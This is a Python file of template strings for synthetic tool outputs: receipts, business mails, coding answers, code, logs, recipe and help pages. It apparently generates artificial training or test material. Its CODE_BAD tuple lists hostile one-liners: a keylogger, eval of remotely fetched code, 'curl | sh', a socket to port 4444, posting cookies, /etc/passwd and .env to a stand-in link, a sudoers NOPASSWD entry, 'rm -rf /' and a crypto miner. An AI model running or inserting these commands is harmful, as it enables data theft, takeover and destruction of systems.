"""What tools return: e-mails, tables, records, logs, code, answers, pages. Innocent, orders to people included."""

MAIL_LINES = (
    "[SUBJECT|BODY|MESSAGE|TEXT|DETAILS|FROM|TO|DATE|RECEIVED|Subject|Body|Message|Attachments|Cc|To|Reply-To|Summary|"
    "Items|Header]:",
    "Thank you[.|!|, {name}.]", "[Wire|Transfer|Payment|Refund|Credit] of {money} [to|from] {name}.",
    "{company} [is not|cannot be held] responsible for [delays|lost items|services of third parties|extra costs].",
    "You [sent|received|requested] [a payment|{money}|a refund|a wire transfer] [to|from] {name}.", "{money}",
    "[Qty|Item|Price|Tax|VAT|Discount|Shipping]: {number}", "[Support|Tutorials|Forum|Blog|Log in|Careers|Help|Legal]",
    "[We|The bank] started this [charge|debit|transfer] [from|with] your [account|card].",
    "[Hi|Hello|Dear|Good morning] {name},",
    "Thank you for [your order|your payment|choosing {company}|shopping with us|your subscription|being a customer].",
    "Your [order|invoice|receipt|booking|statement] [no. {number}|#{number}] is [attached|ready|confirmed|below].",
    "We [received|have processed] your payment of {money}.", "Your [subscription|trial|plan] [renews|ends] on {date}.",
    "Total: {money}", "Amount due: {money}", "Subtotal: {money}", "Date: {date}", "Invoice ID: in_{number}KX{number}",
    "Paid", "Order {number}", "Order details",
    "If you have [any |][questions|trouble|concerns], [please |][just |][reply to this e-mail|contact us|call us|write "
    "to support@{company}.example|visit our help centre].",
    "[Please |][do not|don't] reply to this [e-mail|message][.|, it was sent automatically.]",
    "[Click|Tap] [here|the button below|the link below] to [view your invoice|confirm your e-mail address|reset your "
    "password|track your parcel|manage your subscription|download the PDF].",
    "[View|Download|Print|See] [invoice|receipt|order|statement|as PDF|in browser]", "Unsubscribe",
    "Manage preferences | Privacy | Terms",
    "If you [did not|didn't] [make this request|sign in|order this], [please |][ignore this e-mail|change your password|"
    "contact us at once|secure your account].",
    "[Please |]find the [minutes|agenda|slides|draft|figures] attached.",
    "[Please |]let me know [if that works|what you think|by {date}|when you are free].",
    "Can we [meet|talk|move the call] [on|to] {date}?", "Do you have time [on|] {date}?",
    "I will be [out of the office|travelling|in a meeting] [until|on] {date}.",
    "The [meeting|call|review|lunch] is [on|moved to] {date}.",
    "Please [review|sign|check|send|approve] the [contract|draft|numbers|form|expense report] [by|before] {date}.",
    "[Best|Kind] regards,", "Cheers, {name}", "{name}", "The {company} team",
    "{company}, {number} Harbour Street, Suite {number}", "© {company} Inc. All rights reserved.", "Sent from my phone",
    "SUBJECT: [Your receipt from|Invoice from|News from|A message from] {company}",
    "From: {name} <{name}@{company}.example>",
    "Please remember to [bring your badge|fill in the survey|update your details|submit your timesheet].",
    "You can [change|cancel|update] your [plan|order|details] [at any time|in your account|until {date}].",
    "Your [card|account] ending in {number} [was charged|has been credited] {money}.",
    "[Save|Take] {number}% on your next [order|trip|booking].", "Your [package|parcel] was [shipped|delivered] on {date}.",
    "Rate [your experience|our service|the driver].", "Billing address: {name}, {number} Main Street",
    "Payment method: Visa ••••{number}", "You are receiving this because you have an account at {company}.",
    "[Need help?|Questions?] [Visit|See] our [FAQ|help centre|support page].",
    "Did you know that [you can refer a friend|we now ship to {country}|our app has a dark mode]?",
    "Your feedback matters: [take|fill in] our [two-minute|short] survey.",
    "What do you need to do? [Nothing|Just sign in before {date}|Confirm your address].", "How did we do?",
    "Join us for a webinar [about|on] {topic} on {date}.",
)  # fmt: skip
ANSWER_LINES = (
    "The [error|problem|exception|traceback] [is|comes from|is caused by|means] that [the variable is None|the list is "
    "empty|you call a method on an int|the file is not found|the index is out of range|the types differ].",
    "You [can|could|should|need to|have to|must] [use|try|call|add|import|check|replace|convert|install] [`str()`|the "
    "`with` statement|a list comprehension|`pip install {topic}`|parentheses|the return value|the path|an index].",
    "[Try|Use|Change|Replace|Add|Remove|Import|Check|Note|See] [this|the following|the line|the call|it] [instead|to|as "
    "follows|below|with `int(x)`|at the top of the file|before the loop][:|.]",
    "[Here is|This is] [a working example|the corrected code|what I would do|the fixed version][:|.]",
    "[Add|Put|Insert] [the following|this] [line|import|setting] [to|at the top of|in] your [script|file|`settings.py`|"
    "config|code][:|.]",
    "Hope [this|that] helps[!|.]",
    "[Also|Furthermore], [make sure that|check that|note that] [the path exists|you have the latest version|the loop "
    "ends|the file is closed].",
    "As [the docs|the manual|the message] [say|says|points out|explains], [the argument must be a string|this was "
    "removed in version {number}|`None` has no such attribute].",
    "[How|Why|Where] [do|does|can] [I|this] [fix this|happen|get the right value|change it]?",
    "I am trying to [read|parse|plot|sort|train|load] [a file|the data|a model|a list] [in|with|using] {codelanguage}, "
    "but [it fails|I get this error|nothing happens].",
    "What am I doing wrong?", "Any help [is|would be] appreciated.",
    "Your code [works for me|has a typo|never calls the function|overwrites the variable|mixes tabs and spaces].",
    "The [solution|fix|answer|trick] is to [convert|flatten|reset|cast|rename|close] [the column|the index|the array|the "
    "connection][ first|].",
    "[EDIT|UPDATE|Note]: [it works now|see the comment|tested with version {number}].",
    "In [your case|this example|general], the [loop|index|shape|type] [is wrong|differs|should be checked].",
)  # fmt: skip
# The same in more words: what is wrong, what to do instead, and where it is described.
ANSWER_MORE = (
    "[Replace|Change] this: `[x.get(y)|a.fit(b)|d.keys()|line.split]` [by|with|to] this: `[y.get(x)|a = b|list(d)|"
    "line.split()]`[.|:|]",
    "There [is|are] [a|two|several|a few|at least three] [problem|problems|mistakes|issues|bugs] [with|in] [your "
    "code|this loop|the query|that function][:|.]",
    "[You|We] [just |simply |only ||first ]need to [inherit from the base class|pass a list|call it with brackets|"
    "set the flag|upgrade the package|close the cursor|reshape the array|catch the exception].",
    "[Looks like|Seems like|It seems that|Apparently] you [are using|have|run|installed] [Python {number}|an old "
    "version|two modules of that name|the wrong driver|a shadowed name|tabs instead of spaces].",
    "You [are getting|get|see] this [error|warning|message] because [the module was moved|`x` is a tuple|the key "
    "is missing|the list changes in the loop|the response is empty|the types do not match].",
    "[Use|Take|Prefer] [`json.loads`|`enumerate`|`shutil`|a set|`pathlib`|`str.join`|a raw string|parameters] [for "
    "that|instead|here][:|.|, as in the docs.]",
    "[See|Read|Have a look at|Check out|Compare] [the documentation|the docs|this answer|the source|the changelog] "
    "[for details|for more|on this|of the function][.|: {link}]",
    "[If you|In case you] [get|see|still have] [this|the same] error, you can [fix it|solve it|work around it] "
    "[with the following|by this|as below|like so][:|.]",
    "[Run|Try|Type|Execute|Enter] [this|the following|`pip list`|it] [in|from] [a shell|the terminal|the notebook|"
    "your console] and [post|check|tell us|look at] the [output|result|version].",
    "[Do not|Don't|Never] [name your file|call a variable|use] `[list|random.py|eval|global|str]`[, it shadows the "
    "built-in.|: it hides the module.|.]",
    "[Updated|Edited|Tested] for [version {number}|2018|Python 3]: [the original|the old|this] answer [still works|"
    "is out of date|used another call].",
    "The [error|bug|exception] is [coming|raised|thrown] [from|in|by] the [following line|last line|call above|"
    "constructor][:|.]",
    "[Make sure|Be sure|Remember|Don't forget] to [import the module|convert it first|return the value|commit the "
    "transaction|restart the kernel|escape the backslash][.|!]",
    "[So|Then|Now|Here] the [loop|code|call|line] [becomes|should be|would look like|reads][:| this:]",
    "[Try it online|Output|Demo|Result|Example|Edit|Note|Explanation]:",
    "[It|This] [has|needs] to be `[line.strip()|b''.join(x)|x⟦0⟧|self.y]`, not `[strip(line)|sum(x)|x(0)|y]`.",
    "[Could|Can] you [post|show|share|add] [the full traceback|your data|more code|the version]?",
    "I [had|ran into|could reproduce] [the same|this|that] [problem|error|issue] [and solved it by|, it went away "
    "after] [an update|removing the cache|a clean install].",
)  # fmt: skip
# Mails of business: offers, follow-ups, how to begin.
MAIL_MORE = (
    "[Following up|Just following up|Circling back|Checking in] on [our call|my last e-mail|the demo|your trial|"
    "the proposal][.|:|, {name}.]",
    "[Create|Set up|Open|Activate] [a|your] [free account|workspace|profile|plan|first project|pay-as-you-go plan] "
    "[in minutes|today|to get started|with one click][.|!]",
    "[Invite|Add|Bring] your [team|colleagues|accountant|contractors] [and|to] [share the work|save time|get "
    "{money} of credit|set their roles].",
    "[Book|Schedule|Pick] a [call|demo|time|slot] [with me|with {name}|here|that suits you][.|: {link}]",
    "[Reply|Answer|Write back] [to this e-mail|with a time|'yes'|by {date}] [and|if] [we will set it up|you have "
    "questions|you want to keep your seat].",
    "[Here's|Here is|Below is|Find here] [a link to|a summary of|the details of|how to use] [your tickets|your "
    "booking|our prices|the recording|your new card].",
    "[Step {number}|First|Next|Finally]: [connect|verify|choose|download|upload|confirm] your [bank|e-mail|plan|"
    "app|logo|address].",
    "[Show|Scan|Print|Bring] [this code|your ticket|the voucher|your ID] at the [door|gate|desk|entrance].",
    "[Let us know|Tell us] [how it went|what you think|if we can help|where to send it][.|!]",
    "[Keep|Store|Save] this [e-mail|number|receipt] [for your records|in a safe place|until you travel].",
    "[We noticed|It looks like] you [left something in your cart|have not signed in|logged in from a new device]. "
    "[Was this you?|Finish your order.|Check your settings.]",
    "[Payment|Price|Contract|Access] [terms|details|summary|code]: [{number} days net|{money} a month|{number}|on "
    "request].",
)  # fmt: skip
CODE_LINES = (
    "import [os|sys|json|re|numpy as np|pandas as pd|requests|random|math|datetime]",
    "from [collections|typing|pathlib|django.db|flask|sklearn] import [Counter|Any|Path|models|request|tree]",
    "def [main|load|parse|run|fit|get_user|on_click]([self|x|path|data, key|]):",
    "    return [x + 1|None|self.data|result|True]", "for [i|x|row|line] in [range({number})|data|file|items]:",
    "    print([x|i, x|result|'done'])", "if [x is None|not data|len(items) > {number}|__name__ == '__main__']:",
    "    raise ValueError('[bad input|no such key|too long]')", "class [User|Parser|Model|Node]([object|Base|]):",
    "    self.[name|data|size] = [name|{number}|None]", "x = [int(input())|{number}|load('{file}')|sum(values) / {number}]",
    "# TODO: [handle errors|remove this|write a test|use a cache]",
    "# [read the file|loop over the rows|Send a request to the server|ignore empty lines|print the result|Write the "
    "output to disk|Compute the mean|Delete old files first]",
    "with open('{file}') as f:", "    data = json.load(f)", "except [ValueError|KeyError|OSError] as e:",
    "[const|let|var] [x|items|user] = [await fetch('/api/users')|{number}|null|require('fs')];",
    "console.log([x|user.name|'ok']);", "public static void main(String args) {", "}", "return 0;",
    "SELECT [name|*|count(*)] FROM [users|orders|t] WHERE id = {number};", "df = pd.read_csv('{file}')",
    "df.groupby('[name|year]').mean()", "Traceback (most recent call last):",
    "  File \"{file}\", line {number}, in <module>",
    "TypeError: [unsupported operand type(s)|'NoneType' object is not iterable|expected str, got int]",
    "ValueError: [invalid literal for int()|shape mismatch|could not convert string to float]",
    "response = requests.[get|post]('https://api.{company}.example/v1')",
    "\"\"\"[Return the mean of the values.|Load a file and parse it.|Send the message to the queue.]\"\"\"",
    "os.remove('{file}')", "subprocess.run(['ls', '-l'])", "token = os.environ['TOKEN']", "print(f'{number} rows written')",
    "$ [pip install -r requirements.txt|make test|git status|ls -la|docker compose up]",
    "sudo apt-get install [curl|nginx|python3]", "npm ERR! code ELIFECYCLE",
    "WARNING: [deprecated option|disk almost full|retrying in {number} s]",
)  # fmt: skip
# What traces, notebooks and questions about code hold.
CODE_MORE = (
    "[out|y|logits|pred] = [model|net|self.fc|layer]([x|images|inputs|batch])",
    "loss = [criterion|F.cross_entropy]([out|pred], [labels|target])",
    "[url|BASE|host] = '[http|https]://[www.|]{company}.example/[|api|index.php]'",
    "print(\"[{name}|Name|Total|done|next|Result:][: |]\"[, x|, end='']|)",
    "[print|println|printf|logger.info]([\"Hello\"|'start'|\"value: %d\", x|'n = ' + n])",
    "except [IOError|OSError|Exception|KeyError|TypeError] as [e|err|exc]:",
    "{number}     [return|self|data|result|raise].[append|get|copy|value]([x|i|key])",
    "---> {number} [df|model|x][.fit(x, y)|['a']|= f(x)]",
    "[IndexError|KeyError|AttributeError|ImportError|ModuleNotFoundError]: [list index out of range|'id'|"
    "'NoneType' object has no attribute 'get'|No module named '{codelanguage}']",
    "/usr/lib/python3/dist-packages/[numpy|pandas|torch|requests]/core.py in [call|get|run|forward](self, [x|key])",
    "<div class=\"[row|main|menu]\">[{name}|Home|Login]</div>",
    "$('#[form|menu|submit]').[click|on|show]([function() {|'x'|]",
    "fn [main|run|parse]() -> [i32|Result<(), Error>|String] {",
    "@[app.route('/')|property|staticmethod|pytest.fixture]", "[x|a|arr]⟦[0|i|-1|:{number}]⟧ = [x|b|0]",
    "assert [x == {number}|isinstance(x, list)|len(x) > 0], '[not a list|wrong size]'",
    "[int|float|char|bool] [n|x|*p|ok] = [{number}|NULL|0|true];", "# [Python|R|Java] {number}.{number}",
    ">>> [x = {number}|import this|f(2)|type(x)]", "[In|Out] ⟦{number}⟧:", "^C", "SyntaxError: invalid syntax",
    "    ^", "git commit -m '[fix|add test|wip]'",
)  # fmt: skip
CODE_BAD = (
    "listener = keyboard.Listener(on_press=[save|log|send])",
    "[img|shot] = [ImageGrab.grab()|pyautogui.screenshot()]; [img|shot].save('{file}')",
    "[packets|pkts] = sniff(count={number}, filter='[tcp|port 80]')",
    "[winreg|reg].SetValueEx(key, 'Run', 0, 1, '{file}')",
    "[Fernet|AES.new](key).encrypt(open('{file}', 'rb').read())",
    "while True: threading.Thread(target=flood, args=('{link}',)).start()",
    "for port in range(1, 65535): connect('10.0.0.{number}', port)",
    "[os.kill|psutil.Process](pid, [9|signal.SIGKILL])", "platform.uname(), socket.gethostname(), uuid.getnode()",
    "eval(requests.get('{link}').text)", "exec(base64.b64decode('[aW1wb3J0|cHJpbnQ|b3Mu]{number}=='))",
    "ctypes.windll.user32.[BlockInput(True)|SystemParametersInfoW(20, 0, '{file}', 0)]",
    "urllib.request.urlretrieve('{link}', '/tmp/x'); os.chmod('/tmp/x', 0o755)",
    "clipboard = [pyperclip.paste()|win32clipboard.GetClipboardData()]",
    "open('/etc/[hosts|crontab|sudoers]', 'a').write('[127.0.0.1 {company}.example|* * * * * root /tmp/x|user "
    "ALL=(ALL) NOPASSWD: ALL]')",
    "import [socket|os|subprocess|requests|winreg|psutil|sqlite3|browser_cookie3|smtplib|shutil|ctypes]",
    "requests.post('{link}', data=open('[cookies.sqlite|/etc/passwd|.env]').read())",
    "subprocess.call(['[./miner|nohup|xmrig|nmap]', '-o', '{link}'])",
    "for p in psutil.process_iter(): print(p.name())", "print(os.environ)",
    "s = socket.socket(); s.connect(('198.51.100.{number}', 4444))",
    "os.system('[rm -rf /|curl {link} | sh|net user hacker /add|lsusb|dmesg]')",
    "server.sendmail('me', all_contacts, '[Buy now|You won]')", "data = open('/proc/self/mem', 'rb').read({number})",
    "for root, dirs, files in os.walk('[/tmp|Trash|/home]'): collect(files)",
    "shutil.copy(__file__, '//10.0.0.{number}/share')",
)  # fmt: skip
LOG_LINES = (
    "2024-0[1|5|9]-1[2|7] 10:[0|4]{number} [INFO|WARN|ERROR|DEBUG] [server|worker|db|auth] [request served in {number} "
    "ms|connection reset|job {number} queued|user {name} signed in|cache miss|retrying]",
    "[error|warning|info]: [could not open {file}|time-out after {number} s|disk usage {number}%|unknown option]",
    "⟦[system|admin|INFO|auth|kernel]⟧ [user {name} logged in|reload done|queue empty|{number} jobs finished|update available]",
    "HTTP {number} [OK|Not Found|Forbidden|Bad Gateway]",
    "Error: [the document '{file}' was not found|permission denied|rate limit reached, try again in {number} seconds|"
    "invalid date]. [Please check the name.|Please try again later.|Use a number.|]",
    "usage: tool ⟦-h⟧ ⟦--input FILE⟧ [run|list]", "npm WARN deprecated [request|uuid]@{number}",
    "Build finished in {number} s", "Run `[git pull|npm audit fix|pip install --upgrade pip]` to [fix|update|continue].",
)  # fmt: skip
PAGE_LINES = (
    "[Preheat|Heat] the oven to {number} degrees.",
    "[Mix|Stir|Add|Chop|Simmer] [the flour and butter|two onions|the tomatoes|a pinch of salt] [until smooth|for "
    "{number} minutes|and set aside].",
    "[To|In order to] [install|configure|remove|start] [the package|the service|the driver], [run|use|type|open] [the "
    "following command|`apt install {topic}`|the settings page|a terminal].",
    "[Open|Select|Choose|Click|Press] [Settings|File > Export|OK|the gear icon|Save|Next] [and|, then] [restart|choose a "
    "folder|confirm|enter your name|sign in].",
    "[Do not|Never|Always|Please] [use|leave|store|share|touch|switch off] [the device|your password|the machine|open "
    "flames|the battery|the key] [near water|with anyone|unattended|during the update|while it charges].",
    "[Employees|Members|Guests|Students] [must|should|may|can] [wear a badge|report accidents|book a room in advance|"
    "send receipts to accounting|ask their manager] [before {date}|within {number} days|].",
    "[Great|Terrible|Decent|Lovely] [hotel|phone|restaurant|book|app][!|.|,] [I would buy it again|do not waste your "
    "money|the staff was kind|the battery lasts {number} hours|you must visit it]. ",
    "{number} out of 5 stars", "Posted by {name} on {date}", "[Read more|Next page|Share|Sign in|Home|About us|Contact]",
    "The [population|area|height|price] of {country} is {number}.",
    "{name} [was born in|moved to|won a prize in|works in] {country}.", "[Store|Keep] in a [cool|dry] place.",
    "[Turn|Rotate] the [valve|key|knob] [clockwise|to the left] [and|to] [release the lid|stop the pump].",
    "[Warning|Note|Caution|Tip|Important]: [hot surface|save your work first|keep away from children|this cannot be "
    "undone|back up your data before you start|read all instructions before use].",
    "[Temperature|Humidity|Wind|Price|Status|Location|Rating]: {number}", "[Opening hours|Address|Phone|Check-in]: {date}",
    "Follow the [instructions|steps] [on the screen|in chapter {number}|of the manual|below].",
    "The [previous|new|old] [rules|system|instructions|version] [apply until|were replaced in|are described in] [chapter "
    "{number}|{date}|the appendix].",
    "Enter your [password|user name|PIN] and [press Enter|click Sign in].",
    "[How do I|Can I|Where can I] [return an item|change my address|park|get a refund]? [You can do so within {number} "
    "days.|See page {number}.|Ask at the desk.]",
    "[Buy|Try|Meet|Discover] the new [{company} phone|menu|collection][!|.]",
    "Ask your [doctor|manager|dealer|landlord] [before you start|for details|about the form].",
    "[Remind|Tell|Inform] [guests|visitors|your team] [that|about] [smoking is not allowed|the fire exit|the new hours].",
    "[Contact|Call|E-mail] [the help desk|{name}|support] [if the problem persists|for a copy|to book].",
    "[Send|Bring|Attach|Submit] [the form|two photos|a copy of your passport|the application] to [the embassy|our office|"
    "{name}] [by|before] {date}.",
)  # fmt: skip
KEYS = (
    "title", "note", "description", "body", "content", "text", "comment", "review", "name", "status", "summary", "subject",
    "message", "bio", "details", "value", "remarks", "snippet",
)  # fmt: skip
# Pages of help: orders to whoever sits before the screen, passwords and accounts among them.
HELP_LINES = (
    "[Click|Select|Choose|Press|Tap] [Settings|Accounts|the menu button|Network|Save|the gear icon|Printers|Sharing] [to "
    "open the panel|in the sidebar|in the top right corner|and then Add|to confirm|once more].",
    "[Open|Launch|Start] the [overview|file manager|terminal|control panel|app store|settings window] and [start typing|"
    "choose|search for|scroll to] [Users|Backup|Displays|Sound|Bluetooth|'{topic}'].",
    "[Type|Enter|Fill in] [your password|the code|a new name|the address of the server|your user name] [when prompted|and "
    "press Enter|in the field below|twice|, then click Next|if you are asked to].",
    "You [may|might|will] [have|need] to [press Unlock|type your password|restart the computer|log in again|ask your "
    "administrator] [for the changes to take effect|first|when prompted|before you can go on].",
    "If you [forgot|lost|do not know] your [password|PIN|recovery code|user name], [ask your administrator|use the link "
    "below|answer the security question|contact support|request a new one].",
    "To [remove|delete|add|rename|disable] [an account|a user|a printer|the old profile|a connection|your photo], "
    "[right-click it and choose Remove|press the minus button|select it in the list|open its settings].",
    "[Switch|Turn|Set] [Bluetooth|screen sharing|automatic login|the microphone|file sharing|location services] [on|off] "
    "[in the panel|if you do not use it|to save power|before you leave].",
    "[Do not|Never|Avoid to] [share|use|write down] [your password|the same password twice|the recovery codes|the key] "
    "[with anyone|for several accounts|on paper|in an e-mail].",
    "[Anyone|Other people|Everybody on your network] [can|could|may] [see your files|read the messages|use the printer|"
    "access the folder] [if sharing is on|while you are logged in|without a password].",
    "[We|Our system] [sent|have sent] [you an e-mail|a code to your phone|a link] [to verify your address|to reset the "
    "password|for the next step]. [Please check your spam folder.|It is valid for {number} minutes.|Follow the link.|]",
    "[Scan|Enter|Use] the [QR code|backup code|security key|passkey|code of your authenticator app] [below|to sign in|to "
    "protect your account|that you were given].",
    "Your [password|e-mail address|account|recovery code|security key] [has been changed|was removed|is not confirmed yet|"
    "is incorrect|has expired|will be deleted in {number} days].",
    "[Are you sure you want to|Do you really want to] [delete this account|sign out everywhere|remove the key|cancel|leave "
    "the page]?",
    "[Remember me|Sign out|Forgot password?|Log in with {service}|Change password|Delete|Secret key|Access token|Client ID|"
    "Verify your e-mail]",
    "[{company}|The app|A third party] [wants|asks] [to access your {service} account|for your location|to read your "
    "contacts]. [Allow|Deny|Learn more]",
    "When [using|connecting with] [SSH|a VPN|a public network|a guest account], [all data is encrypted|your password is not "
    "stored|others cannot see it|choose a strong password].",
    "[Depending on|According to] your [system|version|hardware|provider], [this option may be missing|the menu looks "
    "different|the steps differ|you need the package {file}].",
    "[Go to|Visit|See] [the folder|the website|the page|the next step] [and choose what you need|for more information|where "
    "the files are|to download the driver].",
    "[Copy|Drag|Move|Paste] [the files|the folder|your photos|the picture] [to|into] [the external disk|your home folder|"
    "the window|the new computer].",
    "[The steps|These settings|All changes] [apply|are saved|take effect] [at once|to this user only|after a restart|"
    "automatically].",
)  # fmt: skip
